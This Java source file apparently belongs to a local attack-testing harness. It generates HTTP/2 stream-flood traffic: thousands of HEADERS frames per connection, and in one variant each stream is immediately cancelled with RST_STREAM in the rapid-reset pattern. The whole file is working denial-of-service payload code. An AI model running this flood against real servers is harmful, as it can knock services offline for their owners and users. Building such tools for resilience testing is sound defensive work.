package dev.jankline.local.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.jankline.local.attack.Attack.Bytes;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.List;

/** HTTP/2 connections that open thousands of streams at once; some reset each stream at once. */
final class StreamFlood {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_HEADERS = 4;
  private static final int CANCEL = 8;
  private static final int STREAMS = 2_000;

  /** HPACK: indexed :method POST and :scheme http, literal :path and :authority. */
  private static final byte[] FIELDS = {
    (byte) 0x83,
    (byte) 0x86,
    0x04,
    11,
    '/',
    'v',
    '1',
    '/',
    'b',
    'a',
    't',
    'c',
    'h',
    'e',
    's',
    0x01,
    1,
    'a'
  };

  private StreamFlood() {}

  static Attack of(int connections) {
    return Attack.repeated(
        "http2-streams", Attack.Door.BATCHES, connections, List.of(flood(false), flood(true)));
  }

  private static Bytes flood(boolean reset) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
    frame(out, SETTINGS, 0, 0, new byte[0]);
    for (int i = 0; i < STREAMS; i++) {
      int stream = 2 * i + 1;
      frame(out, HEADERS, END_HEADERS, stream, FIELDS);
      if (reset) {
        frame(out, RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL});
      }
    }
    return Bytes.of(out.toByteArray());
  }

  /** Length in 3 bytes, type, flags, stream in 4 bytes, payload. */
  private static void frame(
      ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
    out.write(0);
    out.write(payload.length >> 8);
    out.write(payload.length);
    out.write(type);
    out.write(flags);
    out.writeBytes(ByteBuffer.allocate(Integer.BYTES).putInt(stream).array());
    out.writeBytes(payload);
  }
}
